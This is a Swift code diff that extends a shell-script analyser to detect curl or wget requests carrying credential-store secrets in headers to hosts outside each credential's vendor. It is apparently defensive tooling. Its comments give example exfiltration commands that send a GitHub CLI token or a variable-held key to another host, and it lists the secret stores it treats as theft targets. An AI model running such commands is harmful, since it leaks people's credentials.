@@ -96,6 +96,8 @@ enum ShellFlow {
         } else if let get = Self.queryCarrier(command, name: name, bytes), let source = state.tainted(get.sent) {
           // `curl "https://host/c?d=$KEY"`: a GET carries what its URL's path and query hold.
           hits.append(FlowHit(source: source, sinkRange: command.range, sinkName: name, host: get.host))
+        } else if let carried = state.headerCarrier(command, name: name, at: (index, c)) {
+          hits.append(FlowHit(source: carried.source, sinkRange: command.range, sinkName: name, host: carried.host))
         }
         // `… | while read -r line; do …`: each line read is what flowed into the loop.
         if c > 0, c == pipeline.commands.count - 1, name == "read" {
@@ -340,6 +342,68 @@ enum ShellFlow {
         found = FlowSource.stronger(found, tainted(String(decoding: afterHost, as: UTF8.self)))
       }
       return found
+    }
+
+    /// `curl -H "Authorization: token $(gh auth token)" https://other.host/…`: a request whose
+    /// headers carry a credential store's secret (a token a CLI prints, a credentials file
+    /// read into a variable) to a literal host that is not the store's own vendor.
+    ///
+    /// Headers are how a token is meant to be used, so the environment's API keys in a header
+    /// stay ordinary calls, and a CLI's token sent to its own service is authentication; a
+    /// GitHub token in a request to someone else's server is the token leaving.
+    func headerCarrier(_ command: ShellCommand, name: String, at position: (Int, Int)) -> (source: FlowSource, host: String)? {
+      guard name == "curl" || name == "wget" else { return nil }
+      let args = ExfilShellSink.arguments(command, bytes)
+      var headers: [String] = []
+      var host: String?
+      var i = 0
+      while i < args.count {
+        let arg = args[i]
+        if arg == "-H" || arg == "--header", i + 1 < args.count {
+          headers.append(args[i + 1])
+          i += 2
+          continue
+        }
+        if arg.hasPrefix("--header=") {
+          headers.append(String(arg.dropFirst(9)))
+        } else if host == nil, !arg.hasPrefix("-"), ByteSearch.contains(arg, "://") {
+          host = ExfilHosts.host(inURL: arg)
+        }
+        i += 1
+      }
+      guard !headers.isEmpty, let host, !host.utf8.contains(0x24) else { return nil }
+      var source: FlowSource?
+      for header in headers { source = FlowSource.stronger(source, tainted(header)) }
+      // A substitution written in a header: what the command's substitutions printed.
+      if headers.contains(where: { ByteSearch.contains($0, "$(") || $0.utf8.contains(0x60) }) {
+        source = FlowSource.stronger(source, childSources[key(position.0, position.1)])
+      }
+      guard let source, source.kind == .credential, !source.isSigningKey,
+        let vendors = Self.headerStores[source.storeLabel], !Self.isWithin(host, vendors)
+      else { return nil }
+      return (source, host)
+    }
+
+    /// Stores whose secret in a header is theft outside the listed services: a CLI's token
+    /// belongs to its vendor's API (sending it there is logging in), keys, cookies and
+    /// wallets belong in no header at all. A keyring or keychain item the script names is how
+    /// a tool keeps its own API token, whichever service that is, so those are not listed.
+    static let headerStores: [String: [String]] = [
+      "GitHub CLI token": ["github.com", "githubusercontent.com", "ghe.com"],
+      "gcloud access token": ["googleapis.com", "google.com"],
+      "gcloud credentials": ["googleapis.com", "google.com"],
+      "AWS credentials": ["amazonaws.com", "aws.amazon.com"],
+      "Azure credentials": ["azure.com", "microsoft.com", "windows.net", "microsoftonline.com"],
+      "Docker credentials": ["docker.io", "docker.com"],
+      "Claude credentials": ["anthropic.com", "claude.ai"],
+      "SSH private key": [], "~/.ssh": [], "browser cookies": [], "browser saved passwords": [],
+      "browser key store": [], "crypto wallet": [], "agent sessions": [],
+    ]
+
+    /// Whether `host` is one of `domains` or under one.
+    static func isWithin(_ host: String, _ domains: [String]) -> Bool {
+      let lowered = host.lowercased()
+      return domains.contains { lowered == $0 || lowered.hasSuffix("." + $0) }
     }
 
     /// A tainted variable referenced in `text` (`$K`, `${K}`).
